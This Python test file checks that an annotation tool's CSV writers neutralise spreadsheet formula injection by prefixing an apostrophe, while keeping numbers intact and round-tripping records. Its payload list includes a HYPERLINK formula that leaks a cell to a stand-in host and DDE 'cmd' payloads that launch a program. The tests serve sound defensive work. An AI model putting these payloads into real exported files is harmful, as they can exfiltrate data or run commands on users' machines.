"""Formula injection: no cell of a CSV we write starts a spreadsheet formula, numbers stay
numbers, and our own CSV reads back to what was written."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from annotator.formats import Record
from annotator.formats.casualty_csv import write_casualty_csv
from annotator.formats.csv_safety import FORMULA_STARTS, neutralise, restore
from annotator.formats.csvfile import read_csv, write_csv

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def cells_of(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def runs_as_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS) and neutralise(cell) != cell


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_cell_gets_an_apostrophe_in_front(payload: str) -> None:
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize("number", ["-3", "+1.5", "-2e3", "-.5", "42"])
def test_a_plain_number_stays_a_number(number: str) -> None:
    assert neutralise(number) == number


@pytest.mark.parametrize("value", [-3, 2.5, None, "Aleppo", "'tis", "a=b"])
def test_values_that_start_no_formula_are_written_as_they_are(value: object) -> None:
    assert neutralise(value) == value


@given(st.text(alphabet=st.sampled_from(["'", "=", "-", "+", "@", "\t", "\r", "a", "1", " "]), max_size=8))
def test_restore_undoes_neutralise_for_any_text(text: str) -> None:
    assert restore(neutralise(text)) == text


def test_the_documents_csv_neutralises_every_cell_and_reads_back_the_same() -> None:
    record = Record(
        text=PAYLOADS[1] + " Warplanes struck Idlib.",
        id=PAYLOADS[0],
        meta={"title": PAYLOADS[4], "casualties": "-3", PAYLOADS[3]: "x"},
    )
    written = "".join(write_csv([record]))
    cells = cells_of(written)
    assert "'" + PAYLOADS[0] in cells and "'" + PAYLOADS[4] in cells and "-3" in cells
    assert not [cell for cell in cells if runs_as_formula(cell)]
    (again,) = read_csv(io.StringIO(written, newline=""))
    assert (again.id, again.text, again.meta) == (record.id, record.text, record.meta)


def test_the_casualty_csv_neutralises_titles_and_span_texts() -> None:
    text = "=cmd|' /C calc'!A0 killed 3 in Idlib."
    spans = [{"start": 0, "end": 18, "label": "PERPETRATOR"}, {"start": 31, "end": 36, "label": "LOCATION"}]
    record = Record(text=text, id="@evil", meta={"title": PAYLOADS[0]}, spans=spans, annotator="gold")
    row = next(csv.DictReader(io.StringIO("".join(write_casualty_csv([record])))))
    assert row["perpetrators"] == "'=cmd|' /C calc'!A0"
    assert row["title"] == "'" + PAYLOADS[0] and row["id"] == "'@evil"
    assert row["killed"] == "0" and row["locations"] == "Idlib"
